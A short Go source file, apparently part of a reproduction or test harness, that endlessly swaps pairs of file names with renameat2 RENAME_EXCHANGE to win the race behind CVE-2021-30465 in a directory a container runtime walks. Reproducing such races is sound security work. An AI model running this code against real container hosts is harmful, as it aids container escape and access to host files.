package main

import (
	"fmt"

	"golang.org/x/sys/unix"
)

// exchange is one half of the races of CVE-2021-30465 and what came after it: it
// exchanges pairs of names for ever, in a directory that a victim's runtime walks.
func exchange(names []string) {
	if len(names) == 0 || len(names)%2 != 0 {
		fail(fmt.Errorf("exchange takes pairs of names, not %q", names))
	}
	ready()
	for {
		for i := 0; i < len(names); i += 2 {
			// One of them may be missing for a while: what a runtime makes and removes.
			_ = unix.Renameat2(unix.AT_FDCWD, names[i], unix.AT_FDCWD, names[i+1], unix.RENAME_EXCHANGE)
		}
	}
}
